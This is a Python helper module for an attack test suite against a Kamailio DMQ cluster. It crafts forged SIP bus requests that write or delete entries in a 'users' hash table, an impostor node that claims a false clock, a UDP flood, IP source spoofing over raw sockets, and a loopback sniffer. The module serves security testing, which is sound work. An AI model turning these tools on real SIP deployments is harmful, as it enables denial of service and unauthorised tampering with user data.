"""What a hostile host sends, for the attack suite: plain sockets, nothing of the code under attack.

Owns datagrams of the bus as a stranger writes them, floods, and a listener on the loopback device. What they
do to a cluster is looked at by ``test_attacks.py``.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from itertools import count
from typing import Final

_NUMBERS: Final = count(1)
_COPIED: Final = {b"Via", b"To", b"From", b"CSeq", b"Call-ID", b"v", b"t", b"f", b"i"}
_FLOOD: Final = """
import socket, sys
host, source, data = sys.argv[1], sys.argv[2], sys.argv[3].encode()
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((source, 0))
sock.connect((host, 5060))
send, count = sock.send, 0
try:
    while True:
        for _ in range(1000):
            try:
                send(data)
            except ConnectionRefusedError:
                pass
        if not count:
            print("under way", flush=True)
        count += 1000
except KeyboardInterrupt:
    print(count)
"""


def kdmq(
    to: str, sender: str, channel: str = "notification_peer", body: str = "", method: str = "KDMQ"
) -> bytes:
    """One request of a bus, in the name of ``sender`` (``host:port``)."""
    number = next(_NUMBERS)
    return (
        f"{method} sip:{channel}@{to}:5060 SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {sender};branch=z9hG4bK{number:032x}\r\n"
        f"To: <sip:{channel}@{to}:5060>\r\nContent-Length: {len(body)}\r\n"
        f"From: <sip:{channel}@{sender}>;tag={number:032x}\r\nCSeq: 10 {method}\r\n"
        f"Call-ID: {number:016x}-{number}@{sender}\r\nMax-Forwards: 1\r\n"
        f"Content-Type: {'application/json' if channel == 'htable' else 'text/plain'}\r\n\r\n{body}"
    ).encode()


def htable(action: int, key: str = "", value: str = "") -> str:
    """An action of Kamailio's htable on ``users``: 2 a set, 4 a removal."""
    cell = {"type": 2, "strval": value} if value else {}
    return json.dumps({"action": action, "htname": "users", "cname": key, **cell, "mode": 1})


@contextlib.contextmanager
def bound(host: str, port: int = 0) -> Iterator[socket.socket]:
    """A UDP socket of a hostile host, or of a process beside a node's own."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((host, port))
        sock.settimeout(0.5)
        yield sock


def drained(sock: socket.socket, seconds: float) -> list[bytes]:
    """Everything that comes within so many seconds."""
    got: list[bytes] = []
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        sock.settimeout(left)
        with contextlib.suppress(TimeoutError, BlockingIOError):
            got.append(sock.recv(65_535))
    return got


def answer_to(request: bytes) -> bytes:
    """A 200 to a request, as any SIP software gives it."""
    lines = request.partition(b"\r\n\r\n")[0].split(b"\r\n")[1:]
    copied = [line for line in lines if line.partition(b":")[0] in _COPIED]
    return b"\r\n".join([b"SIP/2.0 200 OK", *copied, b"Content-Length: 0"]) + b"\r\n\r\n"


class Impostor:
    """A host without the key that plays a dmqcache node: it calls, answers all with a 200, lists itself, and
    claims a wall clock of its own. What it acknowledges it does not keep."""

    def __init__(self, host: str, to: str, clock_ms: int) -> None:
        self._host, self._to, self._clock_ms = host, to, clock_ms
        self._ended = threading.Event()
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind((host, 5060))
        self._socket.settimeout(0.1)
        self._thread = threading.Thread(target=self._play)

    def __enter__(self) -> Impostor:
        self._thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self._ended.set()
        self._thread.join()
        self._socket.close()

    def _play(self) -> None:
        line = f"sip:{self._host}:5060;status=active;instance={self._host}"
        called = 0.0
        while not self._ended.is_set():
            if time.monotonic() - called > 0.5:
                called = time.monotonic()
                call = kdmq(self._to, f"{self._host}:5060", body=line)
                self._socket.sendto(
                    call.replace(b"Max-F", b"Supported: dmqcache-2\r\nMax-F"), (self._to, 5060)
                )
            with contextlib.suppress(TimeoutError):
                asked, source = self._socket.recvfrom(65_535)
                if asked.startswith(b"KDMQ"):
                    self._socket.sendto(self._answer(asked, line), source)

    def _answer(self, asked: bytes, line: str) -> bytes:
        channel = asked.partition(b"@")[0].rpartition(b":")[2]
        body = {b"notification_peer": line, b"dmqcache": json.dumps({"now": self._clock_ms})}.get(channel, "")
        head = answer_to(asked).partition(b"Content-Length")[0]
        tail = (
            f"Supported: dmqcache-2\r\nContent-Type: text/plain\r\nContent-Length: {len(body)}\r\n\r\n{body}"
        )
        return head + tail.encode()


class Flood:
    """As many datagrams to a node as one process can send."""

    def __init__(self, host: str, source: str) -> None:
        data = kdmq(host, f"{source}:5060", "htable", htable(2, "flood", "x")).decode()
        command = [sys.executable, "-c", _FLOOD, host, source, data]
        self._process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
        assert self._process.stdout is not None
        assert self._process.stdout.readline() == "under way\n"
        self._began = time.monotonic()

    def stop(self) -> float:
        """Datagrams that it has sent in a second."""
        seconds = time.monotonic() - self._began
        self._process.send_signal(2)
        out, _ = self._process.communicate(timeout=10)
        return int(out or 0) / seconds


def forge(source: str, to: str, data: bytes) -> None:
    """One datagram from port 5060 of ``source``, wherever it really comes from: as root, with a header of
    our own (RFC 768, RFC 791; a checksum of 0 is none)."""
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(data), 0) + data
    ends = socket.inet_aton(source) + socket.inet_aton(to)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + ends
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(ip + udp, (to, 0))


@contextlib.contextmanager
def overheard(source: str, to: str) -> Iterator[list[bytes]]:
    """The datagrams that go over the loopback device from one host to another, as root hears them."""
    heard: list[bytes] = []
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as raw:
        raw.bind(("lo", 0))
        raw.settimeout(0.2)
        yield heard
        with contextlib.suppress(TimeoutError):
            while True:
                frame, address = raw.recvfrom(65_535)
                ip = frame[14:]
                start = (ip[0] & 15) * 4
                ends = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
                if address[2] != socket.PACKET_OUTGOING and ip[9] == 17 and ends == (source, to):
                    heard.append(ip[start + 8 :])
